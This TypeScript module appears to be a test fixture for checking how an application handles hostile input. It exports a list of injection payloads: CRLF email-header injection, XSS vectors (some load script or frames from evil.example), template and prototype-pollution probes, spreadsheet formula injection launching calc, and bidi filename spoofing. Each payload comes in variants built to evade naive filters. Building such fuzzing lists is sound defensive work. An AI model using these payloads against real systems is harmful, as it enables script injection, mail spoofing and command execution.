const code = String.fromCharCode;

/** What has been tried against headers, markup, templates, tables and addresses, one of each idea. */
const seeds = [
  "a\r\nBcc: eve@example.net",
  "a\nTo: eve@example.net",
  "a\rSubject: other",
  "a\u0000b",
  "a%0d%0aBcc:%20eve@example.net",
  "a\u2028Bcc: eve@example.net",
  "a\u0085Cc: eve@example.net",
  "=?utf-8?q?a=0d=0aBcc:_eve=40example.net?=",
  "a\r\n\r\n<html><body>other letter</body></html>",
  "a\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
  "eve@example.net, adam@example.net",
  "<eve@example.net>",
  '"a" <eve@example.net>',
  "a@example.org;eve@example.net",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '"><script src=//evil.example></script>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  "</title><script>alert(1)</script>",
  "</style><b>x</b>",
  "<!--><img src=x>-->",
  '<a href="javascript:alert(1)">x</a>',
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "<iframe src=https://evil.example>",
  "<form action=https://evil.example><input name=a>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<style>@import url(https://evil.example)</style>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "]]><b>x</b>",
  "{{mac}}",
  "v1.aaaaaa.bbbb.{{mac}}",
  "{{link:lnk_1}}",
  "{{{raw}}}",
  "{givenName}",
  "{x, select, other {<b>x</b>}}",
  "'{'",
  "$" + "{process.env.HOME}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{{constructor.constructor('return process')()}}",
  "$&$1$`$'",
  "__proto__",
  '=HYPERLINK("https://evil.example")',
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "=cmd|' /C calc'!A0",
  "a\u202egnp.exe",
  "\u2067a\u2069b",
  "\u200f\u200e\u061c",
  "a\u2066b",
  "\ud83d\udc69\u200d\ud83d\udc67",
  "\ufeff\ufffe",
  "BEGIN:VCALENDAR\r\nATTENDEE:mailto:eve@example.net",
  "- item\n- item",
  "* * *",
  "https://evil.example/login",
  "[x](javascript:alert(1))",
  "a".repeat(5000),
];

/** Each as it is, and in the dresses in which it gets past a check that looks at the beginning, the case or the end. */
export const payloads: readonly string[] = seeds.flatMap((seed) => [
  seed,
  ` ${seed}`,
  seed.toUpperCase(),
  `Samira ${seed}`,
  `${seed}${code(0)}`,
]);

/** Tags with their attributes' names and addresses: what a reader's program would act on. Words are not in it. */
export const skeleton = (html: string): string =>
  [
    ...html
      .replace(/<!--[\s\S]*?-->/g, "")
      .matchAll(/<(\/?[a-zA-Z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g),
  ]
    .map(
      ([, tag, rest]) =>
        `${tag} ${[...rest!.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].map(([, name, value]) => (name === "href" || name === "src" ? `${name}=${value}` : name)).join(",")}`,
    )
    .join("\n");
